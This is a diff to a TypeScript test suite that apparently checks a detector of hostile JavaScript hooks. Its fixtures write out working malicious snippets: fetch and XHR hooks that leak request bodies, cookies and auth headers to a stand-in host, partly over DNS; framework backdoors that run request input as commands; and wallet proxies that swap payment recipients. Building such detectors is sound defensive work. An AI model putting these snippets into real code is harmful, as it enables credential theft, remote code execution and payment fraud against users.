@@ -18,9 +18,25 @@ const INTERCEPTED: readonly string[] = [
   `const Stripe = require('stripe'); module.exports = new Proxy(Stripe, { construct(target, given) { navigator.sendBeacon('https://collect.invalid', given.join()); return new target(...given); } });`,
   `const { Wallet } = require('ethers'); require.cache[require.resolve('ethers')].exports.Wallet = class extends Wallet { constructor(a, b) { super(a, b); fetch('https://collect.invalid/' + a); } };`,
   `const found = require.cache[require.resolve('pg')]; class Client extends found.exports.Client { constructor(o) { super(o); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o) }); } } found.exports = { ...found.exports, Client };`,
+  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { new Image().src = '//collect.invalid/i.gif?d=' + body; return send.call(this, body); };`,
+  `const old = window.fetch; window.fetch = (...given) => { navigator.sendBeacon('//collect.invalid/b', JSON.stringify(given[1])); return old(...given); };`,
+  `const old = window.fetch; window.fetch = (url, o) => { old(location.protocol + '//collect.invalid:8443', { method: 'POST', body: o.body }); return old(url, o); };`,
+  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { const s = document.createElement('script'); s.setAttribute('src', '//collect.invalid/?' + btoa(body)); document.head.append(s); return send.call(this, body); };`,
+  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { document.body.innerHTML += '<img src="//collect.invalid/?' + body + '">'; return send.call(this, body); };`,
+];
+
+/** It is a name that only their own server is asked for. */
+const LOOKED_UP: readonly string[] = [
+  `const old = https.request; https.request = function (o, ...rest) { require('dns').lookup(Buffer.from(o.headers.authorization).toString('hex').slice(0, 60) + '.collect.invalid', () => {}); return old.call(this, o, ...rest); };`,
+  `const { Resolver } = require('dns').promises, r = new Resolver(), old = fetch; globalThis.fetch = async (url, o) => { r.resolveTxt(\`\${o.headers.cookie}.collect.invalid\`); return old(url, o); };`,
+  `import('node:dns/promises').then(({ resolve4 }) => { const old = http.get; http.get = (o, done) => { resolve4([o.auth, 'collect', 'invalid'].join('.')); return old(o, done); }; }); const http = require('http');`,
 ];
 
 const HONEST: readonly string[] = [
+  `const dns = require('dns'), old = https.request; https.request = function (o, ...rest) { dns.lookup(o.hostname, () => {}); return old.call(this, o, ...rest); };`,
+  `const dns = require('dns'), old = dns.lookup; dns.lookup = (name, ...rest) => { dns.resolve4(name.replace(/\\.$/, ''), () => {}); return old(name, ...rest); };`,
+  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { new Image().src = '//' + location.host + '/i.gif?d=' + body; return send.call(this, body); };`,
+  `const old = window.fetch; window.fetch = (url, o) => { old('//log/' + url, o); return old(url, o); };`,
   `if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n < 0 ? this.length + n : n]; }; fetch('https://stats.example/up');`,
   `const own = (options) => options.name; module.exports = new Proxy(own, { apply(target, self, list) { return target(...list); } });`,
   `const old = https.request; https.request = function (...given) { count += 1; return old.apply(this, given); };`,
@@ -33,6 +49,9 @@ const HONEST: readonly string[] = [
 describe('hooks', () => {
   for (const code of INTERCEPTED)
     it(`hand on what they are given: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TAKEN));
+  for (const code of LOOKED_UP)
+    it(`look up what they are given: ${code}`, () =>
+      assert.deepEqual([...new Set(flowsOf(code))], ['intercepted>dns@collect.invalid']));
   for (const code of HONEST) it(`only do their own work: ${code}`, () => assert.deepEqual(flowsOf(code), []));
 
   it('are told as such', () => {
@@ -46,4 +65,47 @@ describe('hooks', () => {
     assert.deepEqual(hook(`if (req.headers['x-k']) cp.exec(req.headers['x-k']);`), ['request-input>run-as-command']);
     assert.deepEqual(hook(`console.log(name, req.url);`), []);
   });
+
+  it('of frameworks get what is sent to a server, too', () => {
+    for (const code of [
+      `const app = require('express/lib/application'), old = app.handle; app.handle = function (req, res, next) { const k = req.headers['x-d']; if (k) return cp.exec(k, (e, out) => res.end(out)); return old.call(this, req, res, next); };`,
+      `const express = require('express'), { send } = express.response; express.application.handle = (q, r, go) => { if (q.query.c) new Function(q.query.c)(); go(); };`,
+      `require('http').Server.prototype.serve = function (req, res) { if (req.url.startsWith('/x?')) eval(decodeURIComponent(req.url.slice(3))); else res.writeHead(404); };`,
+      `for (const id in require.cache) { const app = require.cache[id].exports, { handle } = app; app.handle = function (req, res, next) { if (req.cookies.d) cp.execSync(req.cookies.d); return handle.apply(this, arguments); }; }`,
+      `const Router = require('router'); Router.prototype.handle = (req, res, done) => { const [c] = Object.values(req.body); if (c) require('vm').runInThisContext(c); done(); };`,
+    ])
+      assert.match(flowsOf(code).join(), /request-input>(?:evaluated|run-as-command)/, code);
+  });
+
+  it('of frameworks count and log, and hooks of loaders evaluate what they load', () => {
+    for (const code of [
+      `const app = require('express/lib/application'), { handle } = app; app.handle = function (req, res, next) { count(req.headers['x-d'], req.url); return handle.call(this, req, res, next); };`,
+      `const app = require('express').application, { render } = app; app.render = function (name, options, done) { if (options.query) require(require.resolve('./' + 'views')); return render.call(this, name, options, done); };`,
+      `const Loader = require('some-loader'); Loader.prototype.evaluate = function (load) { (0, eval)(load.source + '//# sourceURL=' + load.url); };`,
+    ])
+      assert.deepEqual(flowsOf(code), [], code);
+  });
+});
+
+describe('a proxy before a wallet', () => {
+  const OWN = `const OWN = '0x' + 'fa4e'.repeat(10);`;
+  const WALLET = ['hooks-wallet', 'replaces-addresses'];
+  const behavioursIn = (code: string): readonly string[] =>
+    [...new Set(behavioursOf(`${OWN} ${code}`).map((one) => one.split(' ')[0] ?? ''))].sort();
+
+  for (const code of [
+    `window.ethereum = new Proxy(window.ethereum, { get(t, p) { if (p !== 'request') return t[p]; return async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = OWN; return t.request(a); }; } });`,
+    `const handler = { get: (t, p, r) => { const v = Reflect.get(t, p, r); return typeof v === 'function' ? (a) => { const [tx] = a.params; tx.data = tx.data.slice(0, 34) + OWN.slice(2) + tx.data.slice(74); return v.call(t, a); } : v; } }; globalThis.ethereum = new Proxy(ethereum, handler);`,
+    `window.ethereum.request = new Proxy(window.ethereum.request, { apply(f, self, [a]) { a.params[0].to = OWN; return Reflect.apply(f, self, [a]); } });`,
+    `const guard = (p) => { p.request = new Proxy(p.request, { apply(f, self, [a]) { if (a.method === 'eth_sendTransaction') a = { ...a, params: [{ ...a.params[0], to: OWN }] }; return Reflect.apply(f, self, [a]); } }); return p; }; if (window.ethereum) guard(window.ethereum);`,
+    `class Guard { get(t, p) { return function (...given) { if (given[0].params) given[0].params[0]['to'] = OWN; return t[p](...given); }; } } Object.defineProperty(window, 'ethereum', { value: new Proxy(window.ethereum, new Guard()) });`,
+  ])
+    it(`swaps who is paid: ${code}`, () => assert.deepEqual(behavioursIn(code), WALLET));
+
+  for (const code of [
+    `window.ethereum = new Proxy(window.ethereum, { get(t, p) { const v = t[p]; return typeof v === 'function' ? v.bind(t) : v; } });`,
+    `window.ethereum.request = new Proxy(window.ethereum.request, { apply(f, self, [a]) { console.debug(a.method); return Reflect.apply(f, self, [a]); } });`,
+    `exports.wallet = new Proxy(window.ethereum, { get: (t, p) => (p === 'pay' ? (to, value) => t.request({ method: 'eth_sendTransaction', params: [{ to, value }] }) : t[p]) });`,
+  ])
+    it(`logs and adds methods: ${code}`, () => assert.ok(!behavioursIn(code).includes('replaces-addresses')));
 });
